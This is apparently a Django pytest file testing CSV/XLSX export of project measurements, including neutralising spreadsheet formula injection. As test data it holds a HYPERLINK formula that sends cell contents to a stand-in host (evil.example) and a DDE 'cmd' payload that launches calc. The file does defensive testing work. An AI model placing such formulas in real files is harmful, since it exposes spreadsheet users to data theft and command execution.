"""Exporting a project tidy, as CSV and XLSX: one row per indicator per date, safe to open in a
spreadsheet, and re-importable to the same values."""

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from projects import imports
from projects.models import BaselineEntry, Measurement
from projects.tests.factories import ImpactFactory, IndicatorFactory, TaskFactory

HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def recorded(project, lead):
    task = TaskFactory(project=project, title="Benchmark payroll cost")
    impact = ImpactFactory(task=task, statement="Defined the starting point")
    cost = IndicatorFactory(
        impact=impact,
        name="Payroll cost per payslip",
        kind="lagging",
        unit="£",
        direction="down",
        baseline_value=Decimal("4.8"),
        baseline_date=date(2026, 4, 1),
        target_value=Decimal("3.6"),
        target_date=date(2027, 3, 31),
    )
    errors = IndicatorFactory(impact=impact, name="+Payslips needing correction", unit="%")
    values = {
        (cost, date(2026, 4, 1)): (Decimal("4.8000"), "Before the change"),
        (cost, date(2026, 5, 1)): (Decimal("4.7125"), HOSTILE_NOTE),
        (cost, date(2026, 6, 1)): (Decimal("-0.5"), "@mention and - dash"),
        (errors, date(2026, 4, 1)): (Decimal("1234567.8912"), "-1 since last month"),
    }
    for (indicator, when), (value, note) in values.items():
        Measurement.objects.create(
            project=project,
            indicator=indicator,
            date=when,
            value=value,
            note=note,
            recorded_by=lead,
        )
    return values


def export(client, project, fmt):
    response = client.get(reverse("projects:measurement-export", args=[project.pk, fmt]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment; filename=")
    return response.content


def stored(project):
    return {
        (m.indicator_id, m.date): (m.value, m.note)
        for m in Measurement.objects.filter(project=project)
    }


def test_the_csv_is_tidy_one_row_per_indicator_per_date(lead_client, project, recorded):
    text = export(lead_client, project, "csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == list(imports.EXPORT_COLUMNS)
    assert len(rows) == 4
    first = rows[0]
    assert first["task"] == "Benchmark payroll cost"
    assert first["impact"] == "Defined the starting point"
    assert first["indicator"] == "Payroll cost per payslip"
    assert (first["kind"], first["unit"], first["direction"]) == ("lagging", "£", "down")
    assert (first["baseline"], first["target"]) == ("4.8", "3.6")
    assert (first["date"], first["value"]) == ("2026-04-01", "4.8")


def test_the_csv_neutralises_cells_a_spreadsheet_would_run(lead_client, project, recorded):
    text = export(lead_client, project, "csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    notes = {row["note"] for row in rows}
    assert "'" + HOSTILE_NOTE in notes
    assert "'@mention and - dash" in notes
    assert "'-1 since last month" in notes
    assert {row["indicator"] for row in rows} >= {"'+Payslips needing correction"}
    # Numbers are numbers: a negative value is not text and is not changed.
    assert "-0.5" in {row["value"] for row in rows}
    for row in rows:
        for name, cell in row.items():
            if name not in ("value", "baseline", "target"):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_and_read_back(start):
    cell = start + "cmd|' /C calc'!A0"
    assert imports.neutralise(cell) == "'" + cell
    assert imports.text_from_cell("'" + cell) == cell
    assert imports.neutralise("plain text") == "plain text"
    assert imports.neutralise(Decimal("-5")) == Decimal("-5")


def test_the_xlsx_holds_text_as_text_never_as_a_formula(lead_client, project, recorded):
    workbook = openpyxl.load_workbook(io.BytesIO(export(lead_client, project, "xlsx")))
    sheet = workbook["Measurements"]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    note = next(cell for cell in cells if cell.value == HOSTILE_NOTE)
    assert note.data_type == "s"
    assert not any(cell.data_type == "f" for cell in cells)
    dates = [row[11].value for row in sheet.iter_rows(min_row=2)]
    assert dates[0].date() == date(2026, 4, 1)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_reimports_to_the_same_values(lead_client, project, recorded, fmt):
    before = stored(project)
    content = export(lead_client, project, fmt)
    Measurement.objects.all().delete()
    url = reverse("projects:measurement-import", args=[project.pk])
    response = lead_client.post(url, {"file": SimpleUploadedFile(f"export.{fmt}", content)})
    assert "Check before saving: 4 values" in response.text, response.context.get("checked")
    rows = response.context["confirm_form"].initial["rows"]
    assert lead_client.post(url, {"rows": rows}).status_code == 302
    assert stored(project) == before


def test_reimporting_an_unchanged_export_changes_nothing(lead_client, project, recorded):
    content = export(lead_client, project, "xlsx")
    url = reverse("projects:measurement-import", args=[project.pk])
    response = lead_client.post(url, {"file": SimpleUploadedFile("export.xlsx", content)})
    assert response.text.count(">unchanged<") == 4
    history = Measurement.history.count()
    lead_client.post(url, {"rows": response.context["confirm_form"].initial["rows"]})
    assert Measurement.history.count() == history


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_template_lists_the_projects_indicators(lead_client, project, recorded, fmt):
    url = reverse("projects:measurement-template", args=[project.pk, fmt])
    content = lead_client.get(url).content
    sheet = imports.read_spreadsheet(content)
    assert [imports.column_key(h) for h in sheet.header] == list(imports.TEMPLATE_COLUMNS)
    names = [imports.text_from_cell(cells[0]) for _, cells in sheet.rows]
    assert names == ["Payroll cost per payslip", "+Payslips needing correction"]


def test_the_baseline_exports(lead_client, project):
    BaselineEntry.objects.create(
        project=project,
        function="=Payroll",
        organisation="North Vale",
        budget=Decimal("1240000"),
        wte=Decimal("28.4"),
        as_of=date(2026, 3, 31),
    )
    url = reverse("projects:baseline-export", args=[project.pk, "csv"])
    text = lead_client.get(url).content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows == [
        {
            "function": "'=Payroll",
            "organisation": "North Vale",
            "as_of": "2026-03-31",
            "budget": "1240000",
            "wte": "28.4",
            "volumes": "",
            "performance": "",
            "operating_model": "",
            "source": "",
        }
    ]
    url = reverse("projects:baseline-export", args=[project.pk, "xlsx"])
    workbook = openpyxl.load_workbook(io.BytesIO(lead_client.get(url).content))
    assert workbook["Baseline"]["A2"].value == "=Payroll"
    assert workbook["Baseline"]["A2"].data_type == "s"
